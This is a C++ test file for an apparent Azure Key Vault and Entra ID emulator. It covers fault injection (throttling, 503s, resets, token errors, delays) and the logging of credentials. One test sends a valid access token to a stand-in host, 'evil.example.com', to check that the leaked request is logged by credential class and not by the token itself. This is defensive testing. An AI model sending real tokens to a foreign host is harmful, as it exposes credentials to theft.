#include "helpers.hpp"

#include <doctest/doctest.h>

using namespace fake;
using namespace fake::test;

namespace {
App with_faults(const std::string& faults_json, const std::string& foreign = "[]") {
  Scenario s = basic_scenario();
  Scenario f = parse_scenario(R"({"tenants":[{"id":"11111111-2222-4333-8444-555555555555"}],"faults":)" + faults_json +
                              R"(,"foreignHosts":)" + foreign + "}");
  s.faults = f.faults;
  s.foreign_hosts = f.foreign_hosts;
  return App(std::move(s), [] { return std::int64_t(1764000000000); });
}
const std::string kHost = "fkv-basic.vault.azure.net";
}  // namespace

TEST_CASE("app: faults fire on the chosen occurrences of matching requests only") {
  App app = with_faults(R"([{"host":"*.vault.azure.net","method":"GET","path":"/secrets/db-*","nth":[2],"status":429,"retryAfter":3},
                             {"host":"*.vault.azure.net","path":"/secrets","times":1,"status":503,"retryAfterDateIn":2,"retryAfterMs":1500},
                             {"host":"*.vault.azure.net","path":"/secrets/api-key*","reset":true},
                             {"host":"login.microsoftonline.com","path":"*/token","nth":[1],"entraError":700024},
                             {"host":"dev.azure.com","delayMs":25}])");
  const std::string oidc = get_oidc(app, kConn);
  auto first = exchange(app, kTenant, kClient, oidc);
  CHECK(first.status == 401);
  CHECK(std::string(json(first.body)["error_description"].GetString()).rfind("AADSTS700024:", 0) == 0);
  CHECK(first.log.fault == "faults[3]");
  auto second = exchange(app, kTenant, kClient, oidc);
  REQUIRE(second.status == 200);
  std::string token = json(second.body)["access_token"].GetString();

  auto slow = app.handle(request("POST", "dev.azure.com", oidc_target(app.scenario(), kConn), {{"authorization", "Bearer fkv-job-token-basic"}}));
  CHECK(slow.status == 200);
  CHECK(slow.delay_ms == 25);

  CHECK(vault_get(app, kHost, "/secrets/db-password/?api-version=7.5", token).status == 200);
  auto throttled = vault_get(app, kHost, "/secrets/db-password/?api-version=7.5", token);
  CHECK(throttled.status == 429);
  CHECK(throttled.header("retry-after") == "3");
  CHECK(std::string(json(throttled.body)["error"]["code"].GetString()) == "Throttled");
  CHECK(vault_get(app, kHost, "/secrets/db-password/?api-version=7.5", token).status == 200);

  auto unavailable = vault_get(app, kHost, "/secrets?api-version=7.5", token);
  CHECK(unavailable.status == 503);
  CHECK(unavailable.header("retry-after").find(" GMT") != std::string::npos);
  CHECK(unavailable.header("retry-after-ms") == "1500");
  CHECK(vault_get(app, kHost, "/secrets?api-version=7.5", token).status == 200);

  auto reset = vault_get(app, kHost, "/secrets/api-key/?api-version=7.5", token);
  CHECK(reset.reset);
  CHECK(reset.log.fault == "faults[2]");
}

TEST_CASE("app: the log names the credential class, never the token") {
  App app = with_faults("[]", R"(["evil.example.com"])");
  std::string token = access_token(app);
  auto classify = [&](std::vector<std::pair<std::string, std::string>> h) {
    return app.classify_token(request("GET", "x", "/", std::move(h)));
  };
  CHECK(classify({}) == "none");
  CHECK(classify({{"authorization", "Bearer fkv-job-token-basic"}}) == "job");
  CHECK(classify({{"authorization", "Bearer " + get_oidc(app, kConn)}}) == "oidc");
  CHECK(classify({{"authorization", "Bearer " + token}}).rfind("access:", 0) == 0);
  CHECK(classify({{"authorization", "Bearer nope"}}) == "unknown");
  CHECK(classify({{"authorization", "Basic Og=="}}) == "unknown");

  auto leaked = vault_get(app, "evil.example.com", "/secrets?api-version=7.5&$skiptoken=x", token);
  CHECK(leaked.status == 200);
  CHECK(leaked.log.token.rfind("access:", 0) == 0);
  CHECK(app.handle(request("GET", "nowhere.example", "/")).status == 404);
}

TEST_CASE("app: one log line per request, as JSON with the documented fields") {
  LogEntry e;
  e.seq = 7;
  e.connection = 3;
  e.method = "GET";
  e.host = "fkv-basic.vault.azure.net";
  e.target = "/secrets?api-version=7.5&$skiptoken=\"x\"";
  e.status = 200;
  e.start_ms = 1.5;
  e.end_ms = 2.25;
  e.epoch_ms = 1764000000123;
  e.info.token = "access:0a1b2c3d";
  e.info.fault = "faults[0]";
  CHECK(format_log_line(e) ==
        R"({"seq":7,"conn":3,"method":"GET","host":"fkv-basic.vault.azure.net","target":"/secrets?api-version=7.5&$skiptoken=\"x\"",)"
        R"("token":"access:0a1b2c3d","status":200,"start_ms":1.500,"end_ms":2.250,"epoch_ms":1764000000123,"fault":"faults[0]"})");
}
